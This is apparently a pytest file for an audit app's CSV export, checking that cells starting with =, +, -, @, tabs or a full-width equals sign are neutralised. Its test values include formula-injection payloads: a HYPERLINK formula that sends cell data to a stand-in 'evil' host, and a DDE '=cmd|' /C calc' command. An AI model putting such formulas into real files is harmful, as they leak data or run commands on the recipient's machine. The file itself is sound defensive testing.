"""CSV exports cannot smuggle formulas into a spreadsheet (issue 9)."""

import csv
import datetime
import decimal
import io

import pytest

from audit.exports import SafeCSVWriter, csv_response, csv_safe


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),  # full-width equals sign
        ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
        ("ACME Trading", "ACME Trading"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (decimal.Decimal("-1.5"), decimal.Decimal("-1.5")),
        (datetime.date(2026, 1, 2), datetime.date(2026, 1, 2)),
        (True, True),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_writer_neutralises_every_cell():
    stream = io.StringIO()
    SafeCSVWriter(stream).writerows([["=1", "ok", 3], ["@x", "-y", None]])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [["'=1", "ok", "3"], ["'@x", "'-y", ""]]


def test_csv_response_is_an_attachment_with_a_bom_for_excel():
    response = csv_response("案件 export.csv", ["名称", "note"], [["艾克米", "=cmd|' /C calc'!A0"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename*=")
    assert "no-store" in response["Cache-Control"]
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["名称", "note"], ["艾克米", "'=cmd|' /C calc'!A0"]]
